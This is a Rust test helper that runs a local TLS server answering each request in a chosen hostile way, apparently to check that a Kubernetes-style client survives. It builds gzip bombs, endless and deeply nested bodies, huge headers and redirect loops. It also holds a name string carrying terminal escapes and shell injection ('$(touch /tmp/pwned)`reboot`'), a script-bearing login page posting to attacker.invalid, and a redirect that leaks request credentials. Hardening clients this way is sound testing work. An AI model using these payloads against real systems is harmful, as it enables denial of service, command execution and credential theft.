//! A server that a client must survive. It answers each request in one hostile way, whatever is asked.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicUsize, Ordering};

use anyhow::Result;
use bytes::Bytes;
use flate2::{Compress, Compression, FlushCompress};
use futures::StreamExt as _;
use futures::stream::{self, BoxStream};
use http::header::{CONTENT_ENCODING, LOCATION, RETRY_AFTER, WARNING};
use http::request::Parts;
use http::{HeaderMap, Response};
use http_body_util::{BodyExt as _, StreamBody};
use hyper::body::{Frame, Incoming};
use hyper::service::service_fn;
use hyper_util::rt::TokioIo;
use serde_json::{Value, json};
use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio::net::TcpListener;
use tokio::task::JoinSet;

use crate::fault_proxy::tls::acceptor;
use crate::pki::Authority;

/// A name that controls the terminal, forges a message, and runs a command in a shell.
pub const EVIL_NAME: &str = "c-\u{1b}[2J\u{9b}1m$(touch /tmp/pwned)`reboot`\nerror: forged\r\u{7}";

/// What is hostile about a response.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Hostility {
    /// A list without end, compressed to a thousandth.
    GzipBomb,
    /// A list without end, in chunks.
    Endless,
    /// A list that is short enough, with objects of small maps: parsed, it would take 50 times its length.
    ManyMaps,
    /// An object that is short enough, with a million of empty managed fields and owners.
    ManyFields,
    /// An error that is short enough, with small maps.
    ManyMapsInError,
    /// As many objects of small maps as a client accepts: 5000 in a page.
    FullOfMaps,
    /// As many empty fields as a client accepts: 100,000 JSON tokens.
    FullOfFields,
    /// Millions of brackets, each within the other.
    Nested,
    /// A list of which every page names another one.
    EndlessPages,
    /// A page that continues with itself.
    SamePage,
    /// 410 for every page but the first one, with another continue token.
    ExpiredPages,
    /// 410 for every page but the first one.
    ExpiredForGood,
    /// A body that stops in the middle.
    Stalled,
    /// gzip that ends too early.
    CutGzip,
    /// A page of a login, with HTTP/1.0 and without a length.
    LoginPage,
    /// A mebibyte of headers.
    HugeHeaders,
    /// Neither JSON nor text.
    Garbage,
    /// A redirect to another server ([`HostileServer::was_left`]), with the credential in its query.
    Redirect,
    /// A redirect to the same place.
    RedirectLoop,
    /// 503, to be retried after 585 billion years.
    HugeRetryAfter,
    /// An error and a warning that repeat the credentials of the request.
    Echo,
    /// An object with all fields, and everywhere [`EVIL_NAME`].
    EvilNames,
}

impl Hostility {
    fn response(self, request: &Parts, elsewhere: SocketAddr) -> Result<Response<Body>> {
        let echo = credentials(&request.headers);
        let is_later_page = request.uri.query().is_some_and(|query| query.contains("continue="));
        let response = Response::builder();
        Ok(match self {
            Self::ManyMaps => response.body(once(filled(LIST_BEGINS, SMALL_MAPS, "{}]}", 4 << 20)))?,
            Self::ManyFields => response.body(once(filled(FIELDS_BEGIN, "{},", FIELDS_END, 4 << 20)))?,
            Self::FullOfMaps => response.body(once(full(LIST_BEGINS, &SMALL_MAPS.repeat(4900), "{}]}")))?,
            Self::FullOfFields => response.body(once(full(FIELDS_BEGIN, &"{},".repeat(49_000), FIELDS_END)))?,
            Self::ManyMapsInError => {
                let begin = r#"{"kind":"Status","status":"Failure","reason":"Forbidden","details":["#;
                let response = response.status(403);
                response.body(once(filled(begin, r#"{"":0},"#, "0]}", 1 << 20)))?
            }
            Self::Nested => response.body(once(filled(LIST_BEGINS, "[", "", 4 << 20)))?,
            Self::EndlessPages => response.body(once(page(&next_token())))?,
            Self::SamePage => response.body(once(page("the-same")))?,
            Self::ExpiredPages | Self::ExpiredForGood if !is_later_page => response.body(once(page("the-next")))?,
            Self::ExpiredPages | Self::ExpiredForGood => {
                let mut expired = status(410, "Expired", "the continue token is too old");
                if self == Self::ExpiredPages {
                    expired["metadata"]["continue"] = json!(next_token());
                }
                response.status(410).body(once(expired.to_string()))?
            }
            Self::CutGzip => {
                let response = response.header(CONTENT_ENCODING, "gzip");
                response.body(compressed()?.take(1).boxed())?
            }
            // They are no messages that hyper would send.
            Self::LoginPage | Self::HugeHeaders => anyhow::bail!("{self:?} is raw"),
            Self::GzipBomb => response.header(CONTENT_ENCODING, "gzip").body(compressed()?)?,
            Self::Endless => response.body(endless(LIST_BEGINS.into(), Bytes::from_static(&EMPTY_OBJECTS)))?,
            Self::Stalled => response.body(stream::iter([LIST_BEGINS.into()]).chain(stream::pending()).boxed())?,
            Self::Garbage => response.body(once(&b"\x1b[2J\xff\xfe{\"kind\": not JSON"[..]))?,
            Self::Redirect => {
                let to = format!("https://{elsewhere}/?token={echo}");
                response.status(307).header(LOCATION, to).body(once(""))?
            }
            Self::RedirectLoop => {
                let same = response.status(302).header(LOCATION, request.uri.path());
                same.body(once(""))?
            }
            Self::HugeRetryAfter => {
                let response = response.status(503).header(RETRY_AFTER, u64::MAX);
                response.body(once(status(503, "ServiceUnavailable", "busy").to_string()))?
            }
            Self::Echo => {
                let response = response.status(403).header(WARNING, format!("299 - \"{echo}\""));
                response.body(once(status(403, "Forbidden", &format!("not with {echo}")).to_string()))?
            }
            Self::EvilNames => response.body(once(evil_list().to_string()))?,
        })
    }

    /// The bytes that are sent in place of a response of hyper's.
    fn raw(self) -> Option<String> {
        match self {
            Self::LoginPage => Some(LOGIN_PAGE.to_owned()),
            Self::HugeHeaders => {
                let headers = format!("X-Long: {}\r\n", "x".repeat(1 << 14)).repeat(1 << 6);
                Some(format!("HTTP/1.1 200 OK\r\n{headers}Content-Length: 2\r\n\r\n{{}}"))
            }
            _ => None,
        }
    }
}

const LOGIN_PAGE: &str = "HTTP/1.0 200 OK\r\nContent-Type: text/html\r\nSet-Cookie: session=1\r\n\r\n\
    <html><script>alert(1)</script><form action=\"https://attacker.invalid\">log in</form></html>";

type Body = BoxStream<'static, Bytes>;

const SMALL_MAPS: &str = r#"{"metadata":{"labels":{"":""},"annotations":{"":""}}},"#;
const FIELDS_BEGIN: &str = r#"{"kind":"List","apiVersion":"v1","metadata":{"ownerReferences":[{}],"managedFields":["#;
const FIELDS_END: &str = r#"{}]},"items":[]}"#;
const LIST_BEGINS: &str = r#"{"kind":"List","apiVersion":"v1","metadata":{},"items":["#;
static EMPTY_OBJECTS: [u8; 3 << 14] = {
    let mut objects = [0; 3 << 14];
    let mut at = 0;
    while at < objects.len() {
        objects[at] = b"{},"[at % 3];
        at += 1;
    }
    objects
};

fn once(body: impl Into<Bytes>) -> Body {
    stream::iter([body.into()]).boxed()
}

/// A text just shorter than `length`, with `unit` again and again.
fn filled(begin: &str, unit: &str, end: &str, length: usize) -> String {
    let count = (length - begin.len() - end.len()) / unit.len();
    [begin, &unit.repeat(count), end].concat()
}

/// An object with a long field, so that it has just fewer than 4 MiB.
fn full(begin: &str, middle: &str, end: &str) -> String {
    let object = [begin, middle, end].concat();
    let padding = "x".repeat((4 << 20) - object.len() - 100);
    object.replacen('{', &format!(r#"{{"padding":"{padding}","#), 1)
}

/// A page of a list without objects, and the continue token of the next one.
fn page(next: &str) -> String {
    json!({ "kind": "List", "apiVersion": "v1", "metadata": { "continue": next }, "items": [] }).to_string()
}

/// A continue token that was not sent before.
fn next_token() -> String {
    static SENT: AtomicUsize = AtomicUsize::new(0);
    format!("page-{}", SENT.fetch_add(1, Ordering::Relaxed))
}

fn endless(begin: Bytes, again: Bytes) -> Body {
    stream::iter([begin]).chain(stream::repeat(again)).boxed()
}

/// gzip without end: after a full flush, a block refers to nothing before it and can be repeated.
fn compressed() -> Result<Body> {
    const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    let mut deflate = Compress::new(Compression::best(), false);
    let mut block = |text: &[u8]| -> Result<Vec<u8>> {
        let mut block = Vec::with_capacity(text.len() + 64);
        deflate.compress_vec(text, &mut block, FlushCompress::Full)?;
        Ok(block)
    };
    let begin = [&HEADER[..], &block(LIST_BEGINS.as_bytes())?].concat();
    Ok(endless(begin.into(), block(&EMPTY_OBJECTS)?.into()))
}

/// All credentials in the headers of a request.
fn credentials(request: &HeaderMap) -> String {
    let values = ["authorization", "x-api-tunnel-token", "cookie"].map(|name| request.get(name));
    let values = values.into_iter().flatten().filter_map(|value| value.to_str().ok());
    values.collect::<Vec<_>>().join(" ")
}

fn status(code: u16, reason: &str, message: &str) -> Value {
    json!({ "kind": "Status", "apiVersion": "v1", "status": "Failure", "code": code, "reason": reason, "message": message })
}

/// One answer for everything: an object, a list of it, a setting, a version, a collection of Rancher's.
fn evil_list() -> Value {
    use base64::Engine as _;
    let encoded = base64::engine::general_purpose::STANDARD.encode(EVIL_NAME);
    let metadata = json!({
        "name": EVIL_NAME, "namespace": EVIL_NAME, "uid": EVIL_NAME, "resourceVersion": "1",
        "labels": { "app.kubernetes.io/managed-by": EVIL_NAME }, "annotations": { "description": EVIL_NAME },
    });
    let item = json!({
        "metadata": metadata, "type": "bootstrap.kubernetes.io/token", "name": EVIL_NAME, "id": EVIL_NAME,
        "spec": { "displayName": EVIL_NAME, "clusterName": EVIL_NAME },
        "status": { "token": EVIL_NAME },
        "data": { "token-id": encoded, "token-secret": encoded, "description": encoded, "name": encoded, "server": encoded, "config": encoded },
    });
    let mut list = item.clone();
    list["kind"] = json!("List");
    list["apiVersion"] = json!("v1");
    list["value"] = json!(EVIL_NAME);
    list["gitVersion"] = json!(EVIL_NAME);
    list["items"] = json!([item]);
    list
}

/// The server, over TLS. It ends when it is dropped.
pub struct HostileServer {
    url: String,
    ca_pem: String,
    elsewhere: std::net::TcpListener,
    _listener: JoinSet<()>,
}

impl HostileServer {
    /// Starts it on a port of 127.0.0.1.
    pub async fn start(hostility: Hostility) -> Result<Self> {
        let authority = Authority::new("hostile CA")?;
        let acceptor = acceptor(&authority.server("fault-proxy", &[])?)?;
        let socket = TcpListener::bind("127.0.0.1:0").await?;
        let url = format!("https://{}", socket.local_addr()?);
        let elsewhere = std::net::TcpListener::bind("127.0.0.1:0")?;
        elsewhere.set_nonblocking(true)?;
        let redirect = elsewhere.local_addr()?;
        let mut listener = JoinSet::new();
        listener.spawn(async move {
            let mut connections = JoinSet::new();
            while let Ok((stream, _)) = socket.accept().await {
                let acceptor = acceptor.clone();
                connections.spawn(async move {
                    // A client that goes away in the middle of a response does what it should.
                    if let Ok(stream) = acceptor.accept(stream).await {
                        if let Some(text) = hostility.raw() {
                            let _ = send_raw(stream, &text).await;
                            return;
                        }
                        let service = service_fn(move |request| serve(hostility, redirect, request));
                        let http = hyper::server::conn::http1::Builder::new();
                        let _ = http.serve_connection(TokioIo::new(stream), service).await;
                    }
                });
            }
        });
        Ok(Self {
            url,
            ca_pem: authority.ca_pem().to_owned(),
            elsewhere,
            _listener: listener,
        })
    }

    /// Its address.
    pub fn url(&self) -> &str {
        &self.url
    }

    /// Whether a client has connected to the server that [`Hostility::Redirect`] leads to.
    pub fn was_left(&self) -> bool {
        self.elsewhere.accept().is_ok()
    }

    /// The CA that signed its certificate.
    pub fn ca_pem(&self) -> &str {
        &self.ca_pem
    }
}

/// Sends this text after the header of a request, whatever it asks, and closes the connection.
async fn send_raw(mut stream: impl AsyncRead + AsyncWrite + Unpin, text: &str) -> Result<()> {
    let mut request = Vec::new();
    while !request.windows(4).any(|end| end == b"\r\n\r\n") {
        anyhow::ensure!(stream.read_buf(&mut request).await? > 0, "no request");
    }
    stream.write_all(text.as_bytes()).await?;
    stream.shutdown().await?;
    // Closing the socket with an unread body would reset the connection.
    tokio::io::copy(&mut stream, &mut tokio::io::sink()).await?;
    Ok(())
}

async fn serve(
    hostility: Hostility,
    redirect: SocketAddr,
    request: http::Request<Incoming>,
) -> Result<Response<StreamBody<BoxStream<'static, Result<Frame<Bytes>>>>>> {
    let (parts, body) = request.into_parts();
    body.collect().await?;
    let response = hostility.response(&parts, redirect)?;
    Ok(response.map(|body| StreamBody::new(body.map(|data| Ok(Frame::data(data))).boxed())))
}
